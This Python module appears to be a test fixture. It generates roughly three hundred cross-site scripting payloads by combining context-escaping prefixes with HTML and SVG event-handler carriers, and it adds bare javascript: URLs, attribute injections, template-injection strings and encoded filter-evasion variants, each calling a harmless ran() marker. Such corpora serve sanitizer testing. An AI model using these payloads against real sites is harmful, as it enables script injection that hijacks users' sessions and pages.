"""Three hundred texts that would run as a script wherever a page took them for more than text.

Made of parts: what is to run, what carries it, and what would break out of the place a page puts a text in (an
element, an attribute in either quote, a comment, a title, a text area, a script, an address). Each calls `ran()`.
"""

from itertools import product

BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</option></select>", "</script>", "</style>", "]]>")

CARRIERS = (
    "<script>{run}</script>",
    "<script src='data:text/javascript,{run}'></script>",
    "<ScRiPt>{run}</sCrIpT >",
    "<img src=x onerror={run}>",
    "<img/src='x'/onerror='{run}'>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{run}'><rect width=99 height=99></a></svg>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<a href='javascript:{run}' autofocus onfocus={run}>läs</a>",
    "<form action='javascript:{run}'><button autofocus onfocus={run}>x</button></form>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<template><img src=x onerror={run}></template>",
    "<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={run}>",
    "<base href='javascript:/x/'><a href='{run}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:y}}' onload={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<p onpointerrawupdate={run} onmouseover={run} onclick={run}>x</p>",
)

BARE = (
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "data:text/html,<script>ran()</script>",
    '" onfocus="ran()" autofocus="', "' onfocus='ran()' autofocus='", "` onfocus=`ran()` autofocus=`",
    "{{ ran() }}", "{% print ran() %}", "${ran()}", "#{ran()}", "<%= ran() %>",
    "{{constructor.constructor('ran()')()}}",
    "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e", "<scr<script>ipt>ran()</scr</script>ipt>",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e", "<!--<img src='--><img src=x onerror=ran()>'>",
)  # fmt: skip

HOSTILE = (*(f"{br}{carrier.format(run='ran()')}" for br, carrier in product(BREAKS, CARRIERS)), *BARE)
